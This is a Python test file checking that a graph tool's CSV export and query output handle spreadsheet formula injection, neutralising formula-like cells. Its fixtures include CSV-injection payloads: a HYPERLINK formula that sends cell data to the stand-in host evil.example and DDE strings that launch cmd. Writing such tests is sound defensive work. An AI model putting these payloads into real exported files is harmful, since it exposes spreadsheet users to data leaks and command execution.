"""CSV and spreadsheets: cells that a spreadsheet would run as formulas (=, +, -, @, tab, CR).

``query --format csv`` is the CSV for spreadsheets: every cell quoted, a formula-like
cell prefixed with ``'`` (OWASP). ``export --to csv`` is input for ``neo4j-admin
database import``, which takes cells literally: it keeps every value exactly (so the
import gives the same values) and warns, in its notes, not to open such files in a
spreadsheet as they are.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from casegraph.cli import cli
from graph.db import server
from graph.db.importcsv import ARRAY_DELIMITER, read_manifest
from loaders.factfile import write_fact_file

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE_QUOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
DOC = {
    "source": {"key": "source:formulas", "title": "+Formulas in a title", "published": "2022"},
    "entities": [
        {"key": "person:formula", "label": "Person", "name": FORMULA_NAME, "aliases": ["=1+1"],
         "attributes": {"occupation": MINUS}},
        {"key": "org:plain", "label": "Organisation", "name": "Plain org"},
    ],
    "claims": [{"subject": "person:formula", "predicate": "MEMBER_OF", "object": "org:plain", "quote": DDE_QUOTE}],
}


def import_tool_nodes(folder: Path) -> dict[str, dict[str, object]]:
    """The nodes of an exported folder as the import tool reads them: typed headers, quoted
    cells taken literally, an empty field no property, arrays split on the delimiter."""
    nodes: dict[str, dict[str, object]] = {}
    for _, (header, body) in read_manifest(folder).nodes:
        columns = next(csv.reader(header.open(encoding="utf-8", newline="")))
        for raw in csv.reader(body.open(encoding="utf-8", newline="")):
            row: dict[str, object] = {}
            for column, cell in zip(columns, raw, strict=False):
                name, _, kind = column.partition(":")
                if cell == "":
                    continue
                row[name] = cell.split(ARRAY_DELIMITER) if kind == "string[]" else cell
            nodes[str(row.get("key", row.get("id")))] = row
    return nodes


def test_export_csv_keeps_values_for_neo4j_admin_and_warns(tmp_path: Path) -> None:
    write_fact_file(tmp_path / "facts" / "f.yaml", DOC)
    out = tmp_path / "csv"
    result = CliRunner().invoke(cli, ["export", str(tmp_path / "facts"), "--to", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert "warning: 5 cells start with =, +, -, @, a tab or CR" in result.output
    assert "use casegraph query --format csv" in result.output
    # What the import tool reads is exactly the data: nothing was prefixed.
    nodes = import_tool_nodes(out)
    assert nodes["person:formula"]["name"] == FORMULA_NAME
    assert nodes["person:formula"]["aliases"] == ["=1+1"]
    assert nodes["person:formula"]["occupation"] == MINUS
    assert nodes["source:formulas"]["title"] == "+Formulas in a title"
    assert [n["quote"] for n in nodes.values() if "quote" in n] == [DDE_QUOTE]
    # A corpus without such cells gets no warning.
    plain = CliRunner().invoke(cli, ["export", "examples/crimea", "--to", "csv", "-o", str(tmp_path / "crimea")])
    assert plain.exit_code == 0 and "warning" not in plain.output


@pytest.mark.neo4j
def test_query_csv_neutralises_formulas(neo4j_env: server.ServerInfo) -> None:
    cypher = ("RETURN '=HYPERLINK(\"http://evil.example\",\"x\")' AS `=col`, '-1+2' AS minus, -5 AS n, "
              "'\\tcmd' AS tab, '\\rcmd' AS cr, '@A1' AS at, '+1' AS plus, ' =1' AS spaced, "
              "'\uff1d1+1' AS wide, 'plain -x' AS plain, 2.5e3 AS num")
    result = CliRunner().invoke(cli, ["query", "--cypher", cypher, "--format", "csv"])
    assert result.exit_code == 0, result.output
    raw = result.stdout_bytes.decode("utf-8")
    lines = raw.split("\r\n")
    assert all(line.startswith('"') for line in lines[:2])  # every cell quoted
    header, row = list(csv.reader(io.StringIO(raw, newline="")))
    assert header[0] == "'=col" and header[1:] == ["minus", "n", "tab", "cr", "at", "plus", "spaced", "wide",
                                                   "plain", "num"]
    assert row == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "'-1+2", "-5", "'\tcmd", "\\x0dcmd", "'@A1",
                   "+1", "' =1", "'\uff1d1+1", "plain -x", "2500.0"]
